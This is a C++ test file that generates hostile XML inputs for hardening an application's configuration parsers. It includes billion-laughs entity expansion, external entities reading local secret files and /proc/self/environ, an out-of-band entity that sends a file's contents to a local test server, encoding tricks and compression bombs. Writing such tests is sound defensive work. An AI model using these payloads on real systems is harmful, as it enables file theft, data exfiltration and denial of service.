#include "Attacks.h"

#include <iconv.h>

#include <cstddef>
#include <stdexcept>
#include <utility>

#include "fakes/TemporaryDirectory.h"
#include "support/ChildProcess.h"

namespace torture {
namespace {

using Attacks = std::vector<Attack>;

constexpr std::size_t million = 1'000'000;

std::string times(std::size_t count, const std::string& text) {
    std::string all;
    all.reserve(count * text.size());
    while (count-- > 0) {
        all += text;
    }
    return all;
}

/// The text count times, with a number in each.
std::string numbered(std::size_t count, const std::string& before, const std::string& after) {
    std::string all;
    for (std::size_t number = 0; number < count; ++number) {
        all.append(before).append(std::to_string(number)).append(after);
    }
    return all;
}

std::string documentType(const std::string& declarations) {
    std::string text = "<!DOCTYPE Corvid [";
    return text.append(declarations).append("]>");
}

std::string entity(const std::string& name, const std::string& content) {
    std::string text = "<!ENTITY ";
    return text.append(name).append(" \"").append(content).append("\">");
}

std::string externalEntity(const std::string& name, const std::string& place) {
    std::string text = "<!ENTITY ";
    return text.append(name).append(" SYSTEM \"").append(place).append("\">");
}

/// Entities of which each is so many times the one before.
std::string laughs(int levels, std::size_t factor = 10, const std::string& first = forbiddenText) {
    std::string all = entity("l0", first);
    for (int level = 1; level < levels; ++level) {
        all += entity("l" + std::to_string(level), times(factor, "&l" + std::to_string(level - 1) + ";"));
    }
    return all;
}

/// The same of parameter entities, whose references only later entities may hold, in disguise.
std::string parameterLaughs(int levels) {
    std::string all = entity("% p0", "<!ENTITY e '" + std::string(forbiddenText) + "'>");
    for (int level = 1; level < levels; ++level) {
        all += entity("% p" + std::to_string(level), times(10, "&#37;p" + std::to_string(level - 1) + ";"));
    }
    return all.append("%p").append(std::to_string(levels - 1)).append(";");
}

std::string chainOfEntities(std::size_t length) {
    std::string all = entity("e0", forbiddenText);
    for (std::size_t number = 1; number < length; ++number) {
        all += entity("e" + std::to_string(number), "&e" + std::to_string(number - 1) + ";");
    }
    return all;
}

void addEntities(Attacks& all) {
    const std::string long_ = entity("long", times(12'500, forbiddenText));
    const std::string many = entity("many", times(10'000, "<x/>"));
    all.push_back({"a billion laughs", documentType(laughs(10)), "&l9;", "yes", {}});
    all.push_back({"a billion laughs in an attribute", documentType(laughs(10)), "<x a='&l9;'/>", "&l9;", {}});
    all.push_back({"a thousand laughs", documentType(laughs(4)), "&l3;", "&l3;", {}});
    all.push_back({"a long entity, ten thousand times", documentType(long_), times(10'000, "&long;"), "yes", {}});
    all.push_back({"a long entity in an attribute, ten thousand times",
                   documentType(long_),
                   "<x a='" + times(10'000, "&long;") + "'/>",
                   times(10'000, "&long;"),
                   {}});
    all.push_back(
        {"an entity of many elements, a thousand times", documentType(many), times(1000, "&many;"), "yes", {}});
    all.push_back({"an entity that is itself", documentType(entity("e", "&e;")), "&e;", "&e;", {}});
    all.push_back(
        {"two entities that are each other", documentType(entity("a", "&b;") + entity("b", "&a;")), "&a;", "&b;", {}});
    all.push_back({"a chain of entities", documentType(chainOfEntities(100'000)), "&e99999;", "&e99999;", {}});
    all.push_back({"parameter entities that grow", documentType(parameterLaughs(10)), "&e;", "&e;", {}});
    all.push_back(
        {"a parameter entity that is itself", documentType(entity("% p", "&#37;p;") + "%p;"), "yes", "yes", {}});
    all.push_back({"many references to nothing", documentType(""), times(100'000, "&x;"), "yes", {}});
    all.push_back({"references to nothing that grow", documentType(laughs(4, 1000, "&x;")), "&l3;", "&l3;", {}});
    all.push_back({"references to nothing that grow in an attribute",
                   documentType(laughs(4, 1000, "&x;")),
                   "<x a='&l3;'/>",
                   "&l3;",
                   {}});
    all.push_back({"ten thousand defaults of an attribute",
                   documentType("<!ATTLIST OfServer" + numbered(10'000, " a", " CDATA 'x'") + ">"),
                   times(1000, "<OfServer/>"),
                   "yes",
                   {}});
    all.push_back({"half a million values that an attribute may have",
                   documentType("<!ATTLIST x a (v" + numbered(500'000, "|v", "") + ") #IMPLIED>"),
                   "yes",
                   "yes",
                   {}});
    all.push_back({"half a million notations that an attribute may name",
                   documentType("<!ATTLIST x a NOTATION (n" + numbered(500'000, "|n", "") + ") #IMPLIED>"),
                   "yes",
                   "yes",
                   {}});
    all.push_back({"as many notations as a document type has room for",
                   documentType("<!ATTLIST x a NOTATION (n" + numbered(4'000, "|n", "") + ") #IMPLIED>"),
                   "yes",
                   "yes",
                   {}});
    all.push_back({"attributes in an entity",
                   documentType(entity("e", "<x" + numbered(100'000, " a", "=''") + "/>")),
                   "&e;",
                   "yes",
                   {}});
    all.push_back({"namespaces in an entity",
                   documentType(entity("e", "<x" + numbered(100'000, " xmlns:a", "='u'") + "/>")),
                   "&e;",
                   "yes",
                   {}});
    all.push_back({"names in an entity", documentType(entity("e", numbered(300'000, "<a", "/>"))), "&e;", "yes", {}});
    all.push_back({"a thousand defaults for each of many elements",
                   documentType("<!ATTLIST x" + numbered(1000, " a", " CDATA 'x'") + ">"),
                   times(100'000, "<x/>"),
                   "yes",
                   {}});
}

void addExternals(Attacks& all, const std::string& outside, int port) {
    const std::string file = "file://" + outside;
    const std::string web = "http://127.0.0.1:" + std::to_string(port);
    const std::vector<std::pair<std::string, std::string>> places = {
        {"a file", file + "/secret.txt"},
        {"a path", outside + "/secret.txt"},
        {"a relative path", "../outside/secret.txt"},
        {"a device", "file:///dev/zero"},
        {"a process", "file:///proc/self/environ"},
        {"a web server", web + "/e"},
        {"an ftp server", "ftp://127.0.0.1:" + std::to_string(port) + "/e"},
        {"a name that must be looked up", "http://corvid.invalid/e"},
        {"a share", "//127.0.0.1/share/e"},
        {"data", "data:text/plain,EXPANDED"}};
    for (const auto& [name, place] : places) {
        all.push_back({"an external entity in " + name, documentType(externalEntity("e", place)), "&e;", "yes", {}});
        all.push_back({"a document type in " + name, "<!DOCTYPE Corvid SYSTEM \"" + place + "\">", "&e;", "yes", {}});
        all.push_back(
            {"a parameter entity in " + name, documentType(externalEntity("% p", place) + "%p;"), "yes", "yes", {}});
    }
    all.push_back({"an external entity in an attribute",
                   documentType(externalEntity("e", file + "/secret.txt")),
                   "<x a='&e;'/>",
                   "&e;",
                   {}});
    all.push_back({"a file that is to be sent away",
                   documentType(externalEntity("% f", file + "/secret.dtd") + "%f;" +
                                entity("% q", "<!ENTITY e SYSTEM '" + web + "/?%e;'>") + "%q;"),
                   "&e;",
                   "yes",
                   {}});
    all.push_back({"a public document type",
                   "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"" + web + "/xhtml1-strict.dtd\">",
                   "&nbsp;",
                   "yes",
                   {}});
    all.push_back(
        {"a catalog",
         "<?oasis-xml-catalog catalog=\"" + file + "/secret.dtd\"?><!DOCTYPE Corvid PUBLIC \"x\" \"" + web + "/x\">",
         "yes",
         "yes",
         {}});
    all.push_back({"a notation",
                   documentType("<!NOTATION n SYSTEM \"" + web + "/n\"><!ENTITY e SYSTEM \"" + file +
                                "/secret.txt\" NDATA n><!ATTLIST x a ENTITY #IMPLIED>"),
                   "<x a='e'/>",
                   "yes",
                   {}});
    const std::string include = " xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"";
    all.push_back(
        {"an inclusion of a file", "", "<xi:include parse=\"text\"" + include + file + "/secret.txt\"/>", "yes", {}});
    all.push_back({"an inclusion from the web", "", "<xi:include" + include + web + "/x\"/>", "yes", {}});
    all.push_back({"a style sheet",
                   "<?xml-stylesheet type=\"text/xsl\" href=\"" + file +
                       "/secret.dtd\"?><?xml-stylesheet "
                       "type=\"text/xsl\" href=\"" +
                       web + "/x\"?>",
                   "yes",
                   "yes",
                   {}});
    all.push_back({"a model",
                   "<?xml-model href=\"" + web + "/x.rng\"?><?xml-model href=\"" + file + "/secret.dtd\"?>",
                   "yes",
                   "yes",
                   {}});
    all.push_back({"places of schemas",
                   "",
                   "<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                   "xsi:noNamespaceSchemaLocation=\"" +
                       file + "/secret.dtd\" xsi:schemaLocation=\"u " + web + "/x\"/>",
                   "yes",
                   {}});
    all.push_back({"a base in another place",
                   documentType(externalEntity("e", "secret.txt")),
                   "<x xml:base=\"" + file + "/\">&e;</x>",
                   "yes",
                   {}});
}

void addSizes(Attacks& all) {
    const std::string digits = "0123456789";
    all.push_back({"a million elements in each other", "", times(million, "<x>") + times(million, "</x>"), "yes", {}});
    all.push_back({"a million elements that do not end", "", times(million, "<x>"), "yes", {}});
    all.push_back({"a million ends of elements", "", times(million, "</x>"), "yes", {}});
    all.push_back({"one huge text", "", times(1'100'000, digits), times(1'100'000, digits), {}});
    all.push_back({"one huge text in pieces", "", times(1'100'000, "&amp;12345"), times(1'100'000, "&amp;12345"), {}});
    all.push_back({"a hundred thousand attributes",
                   "",
                   "<x" + numbered(100'000, " a", "='1'") + "/>",
                   "yes\"" + numbered(100'000, " a", "='1'") + " b=\"",
                   {}});
    all.push_back({"two hundred attributes of each of many elements",
                   "",
                   times(10'000, "<x" + numbered(200, " a", "=''") + "/>"),
                   "yes",
                   {}});
    all.push_back({"identifiers with an entity of many parts",
                   documentType(entity("a", "0123456789abcdef") + entity("e", times(60'000, "&a;")) +
                                "<!ATTLIST x i ID #IMPLIED>"),
                   "</Hostile>" + numbered(500, "<x i='&e;", "'/>") + "<Hostile>",
                   "yes",
                   {}});
    all.push_back({"a hundred thousand equal attributes", "", "<x" + times(100'000, " a=''") + "/>", "yes", {}});
    all.push_back(
        {"a hundred thousand namespaces", "", "<x" + numbered(100'000, " xmlns:a", "='u'") + "/>", "yes", {}});
    all.push_back({"many elements among many namespaces",
                   "",
                   "<x" + numbered(5000, " xmlns:a", "='u'") + ">" + times(200'000, "<a0:x/>") + "</x>",
                   "yes",
                   {}});
    all.push_back({"a huge name of an element", "", "<" + times(1'100'000, "x123456789") + "/>", "yes", {}});
    all.push_back({"a huge name of an attribute", "", "<x " + times(1'100'000, "x123456789") + "=''/>", "yes", {}});
    all.push_back({"a hundred thousand long names", "", numbered(100'000, "<x" + times(100, "y"), "/>"), "yes", {}});
    all.push_back({"a million names", "", numbered(1'000'000, "<a", "/>"), "yes", {}});
    all.push_back({"a huge attribute beside a document type",
                   documentType(""),
                   "<x a='" + times(1'100'000, digits) + "'/>",
                   times(1'100'000, digits),
                   {}});
    all.push_back({"half a million elements", "", times(500'000, "<x/>"), "yes", {}});
    all.push_back({"a huge comment", "", "<!--" + times(1'100'000, digits) + "-->", "yes", {}});
    all.push_back({"a huge instruction", "", "<?x " + times(1'100'000, digits) + "?>", "yes", {}});
    all.push_back({"a huge CDATA section", "", "<![CDATA[" + times(1'100'000, digits) + "]]>", "yes", {}});
    all.push_back({"a hundred thousand instructions", "", times(100'000, "<?x y?><!---->"), "yes", {}});
    all.push_back({"a hundred thousand CDATA sections", "", times(100'000, "<![CDATA[]]>"), "yes", {}});
    all.push_back({"CDATA that pretends to end", "", "<![CDATA[]]]]><![CDATA[><x>&e;</x><![CDATA[]]>", "yes", {}});
    all.push_back({"markup in CDATA", "", "<![CDATA[<!DOCTYPE x [<!ENTITY e 'EXPANDE']>]]>&#68;", "&#60;x/&#62;", {}});
    for (const char* const beginning : {"<!--", "<![CDATA[", "<?x ", "<x a='"}) {
        all.push_back({std::string("what begins with ") + beginning + " and does not end",
                       "",
                       beginning + times(million, digits),
                       "yes",
                       {}});
    }
    all.push_back(
        {"a document type that does not end", "<!DOCTYPE x [" + times(100'000, "<!ENTITY"), "yes", "yes", {}});
}

Attack::Pack inEncoding(std::string encoding, std::string mark = {}) {
    return [encoding = std::move(encoding), mark = std::move(mark)](std::string document) {
        iconv_t converter = iconv_open(encoding.c_str(), "UTF-8");
        if (converter == reinterpret_cast<iconv_t>(-1)) {
            throw std::runtime_error("no converter to " + encoding);
        }
        std::string bytes(5 * document.size() + 16, '\0');
        char* from = document.data();
        char* to = bytes.data();
        std::size_t left = document.size();
        std::size_t room = bytes.size();
        iconv(converter, &from, &left, &to, &room);
        iconv(converter, nullptr, nullptr, &to, &room);
        iconv_close(converter);
        bytes.resize(bytes.size() - room);
        return mark + bytes;
    };
}

Attack::Pack after(std::string bytes) {
    return [bytes = std::move(bytes)](const std::string& document) { return bytes + document; };
}

std::string declared(const std::string& encoding) {
    std::string text = "<?xml version=\"1.0\" encoding=\"";
    return text.append(encoding).append("\"?>");
}

void addEncodings(Attacks& all, const std::string& outside) {
    const std::string external = documentType(externalEntity("e", "file://" + outside + "/secret.txt"));
    const std::string utf8Mark = "\xEF\xBB\xBF";
    const std::string littleMark = "\xFF\xFE";
    const std::string bigMark = "\xFE\xFF";
    const auto add = [&](const std::string& name, const std::string& said, const Attack::Pack& pack) {
        all.push_back({name, (said.empty() ? "" : declared(said)) + external, "&e;", "yes", pack});
    };
    add("UTF-16 with a mark", "UTF-16", inEncoding("UTF-16LE", littleMark));
    add("UTF-16 the other way round", "", inEncoding("UTF-16BE", bigMark));
    add("UTF-16 without a mark", "UTF-16LE", inEncoding("UTF-16LE"));
    add("UTF-16 with the mark of the other", "UTF-16", inEncoding("UTF-16LE", bigMark));
    add("UTF-32", "UTF-32", inEncoding("UTF-32LE", std::string("\xFF\xFE\0\0", 4)));
    add("UTF-32 without a mark", "UCS-4", inEncoding("UTF-32BE"));
    add("UTF-7", "UTF-7", [](const std::string& document) {
        const std::size_t begin = document.find("?>") + 2;
        return document.substr(0, begin) + inEncoding("UTF-7")(document.substr(begin));
    });
    add("EBCDIC", "IBM037", inEncoding("IBM037"));
    add("EBCDIC that is not", "IBM037", {});
    add("UTF-16 that is not", "UTF-16", {});
    add("UTF-8 that is UTF-16", "UTF-8", inEncoding("UTF-16LE", littleMark));
    add("UTF-16 after the mark of UTF-8", "UTF-16", after(utf8Mark));
    add("UTF-8 after the mark of UTF-16", "UTF-8", after(littleMark));
    add("two marks", "", after(utf8Mark + utf8Mark));
    add("an encoding that switches", "ISO-2022-JP", {});
    add("an encoding that nobody knows", "x-corvid", {});
    add("an encoding with a path", "../../outside/secret.txt", {});
    add("an encoding with dots", "x..outside.secret", {});
    add("an encoding with a long name", times(100'000, "x"), {});
    add("an encoding that is named twice", "UTF-8\" encoding=\"UTF-16", {});
    all.push_back({"a letter in more bytes than it needs", "", "\xC0\xBCx/\xC0\xBE", "\xC0\xA2", {}});
    all.push_back({"halves of a character", "", "\xED\xA0\xBD\xED\xB8\x80", "\xED\xA0\xBD", {}});
    all.push_back({"what is no character", "", "\xEF\xBF\xBF\xF4\x90\x80\x80", "\x01", {}});
}

Attack::Pack packedBy(std::string program) {
    return [program = std::move(program)](const std::string& document) {
        const fakes::TemporaryDirectory directory;
        const std::string file = directory.write("document", document);
        return support::runProgram({"/usr/bin/env", program, "-c", file}).out;
    };
}

void addBytes(Attacks& all) {
    const std::string zero(1, '\0');
    const std::string many = times(3 * million, "<x/>");
    all.push_back({"a zero in a text", "", zero + "EXPANDED", "yes" + zero, {}});
    all.push_back({"a zero as a reference", "", "&#0;", "&#0;", {}});
    all.push_back({"a zero before the document", "", "yes", "yes", after(zero)});
    all.push_back({"a document after a zero after a document", "", "yes", "yes",
                   [zero](const std::string& document) { return document + zero + document; }});
    all.push_back({"a million zeros", "", "", "", [](const std::string&) { return std::string(million, '\0'); }});
    all.push_back({"a document with gzip", "", "EXPANDED", "EXPANDED", packedBy("gzip")});
    all.push_back({"a huge document with gzip", "", many, "yes\"/>" + many + "<x a=\"", packedBy("gzip")});
    all.push_back({"a huge document with xz", "", many, "yes\"/>" + many + "<x a=\"", packedBy("xz")});
    all.push_back({"a document with gzip, twice", "", "EXPANDED", "EXPANDED",
                   [](const std::string& document) { return packedBy("gzip")(packedBy("gzip")(document)); }});
    all.push_back({"a document that says it is compressed", "", "yes", "yes", after("\x1F\x8B\x08")});
    all.push_back({"a document after the head of an archive", "", "yes", "yes", after("PK\x03\x04")});
    all.push_back({"nothing but the beginning", "", "", "", [](const std::string&) { return std::string("<"); }});
}

}  // namespace

std::string Attack::asServerFile(const std::string& key) const {
    std::string text = prolog;
    text.append("<Corvid><CachedConfig><").append(key).append(">yes</").append(key).append("><Hostile>");
    text.append(inside).append("</Hostile></CachedConfig></Corvid>");
    return pack ? pack(text) : text;
}

std::string Attack::asLocalFile(const std::string& key) const {
    std::string text = prolog;
    text.append("<Corvid><userConfig name=\"")
        .append(key)
        .append("\" value=\"yes\"/><userConfig name=\"hostile\" value=\"");
    text.append(attribute).append("\"/>").append(inside).append("</Corvid>");
    return pack ? pack(text) : text;
}

std::string Attack::asVersionAnswer() const {
    std::string text = prolog;
    text.append("<Corvid><version a=\"").append(attribute).append("\">12").append(inside);
    text.append("</version></Corvid>");
    return pack ? pack(text) : text;
}

std::string Attack::asChainFile() const {
    std::string text = prolog;
    text.append("<Corvid><ConfigStore name=\"Late\" chainedTo=\"").append(attribute).append("\"/>");
    text.append(inside).append("</Corvid>");
    return pack ? pack(text) : text;
}

std::vector<Attack> attacks(const std::string& outside, int port) {
    Attacks all;
    addEntities(all);
    addExternals(all, outside, port);
    addSizes(all);
    addEncodings(all, outside);
    addBytes(all);
    return all;
}

}  // namespace torture
